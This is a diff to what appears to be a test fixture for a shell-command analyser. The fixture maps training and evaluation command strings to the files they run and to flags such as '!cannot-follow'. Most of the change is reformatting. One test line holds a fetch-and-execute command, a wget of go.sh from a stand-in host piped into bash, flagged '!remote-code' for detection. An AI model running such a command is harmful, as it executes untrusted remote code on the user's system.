@@ -213,12 +213,21 @@ TEXTS = {
     "set -e; python train.py; cat out/log.txt; python tools/eval.py": ["file train.py", "file tools/eval.py"],
     "set -e; cat out/log.txt; python tools/eval.py": [],
     "python train.py; [ -f out/x ] || exit 1; python tools/eval.py": ["file train.py", "file tools/eval.py"],
-    "python train.py; if [[ ! -f out/x ]]; then exit 1; fi; python tools/eval.py": ["file train.py", "file tools/eval.py"],
+    "python train.py; if [[ ! -f out/x ]]; then exit 1; fi; python tools/eval.py": [
+        "file train.py",
+        "file tools/eval.py",
+    ],
     "[ -f out/x ] || exit 1; python train.py": [],
-    "set -eo pipefail; python train.py | tee log | grep acc; python tools/eval.py": ["file train.py", "file tools/eval.py"],
+    "set -eo pipefail; python train.py | tee log | grep acc; python tools/eval.py": [
+        "file train.py",
+        "file tools/eval.py",
+    ],
     # what a program prints
     'R=$(python train.py); echo "$R"': ["file train.py"],
-    "[ $(python train.py) = 1 ] && python tools/eval.py": ["!cannot-follow mlbench-output-of-python|=|1", "file train.py"],
+    "[ $(python train.py) = 1 ] && python tools/eval.py": [
+        "!cannot-follow mlbench-output-of-python|=|1",
+        "file train.py",
+    ],
     'eval "$(conda shell.bash hook)"; python train.py': ["file train.py"],
     "$(python train.py)": ["!cannot-follow", "file train.py"],
     "wget -q http://x/y/go.sh; bash go.sh > log": ["!remote-code"],
